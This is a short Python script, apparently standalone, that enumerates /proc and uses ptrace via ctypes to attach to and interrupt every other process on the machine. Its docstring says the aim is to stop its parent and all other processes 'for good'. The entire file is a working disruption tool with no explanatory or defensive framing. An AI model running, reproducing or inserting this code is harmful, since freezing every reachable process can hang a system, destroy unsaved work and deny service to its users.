"""Attaches to its parent and every other process by ptrace and stops it for good."""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        libc.ptrace(16, int(name), 0, 0)
        libc.ptrace(0x4206, int(name), 0, 0)
libc.ptrace(0, 0, 0, 0)
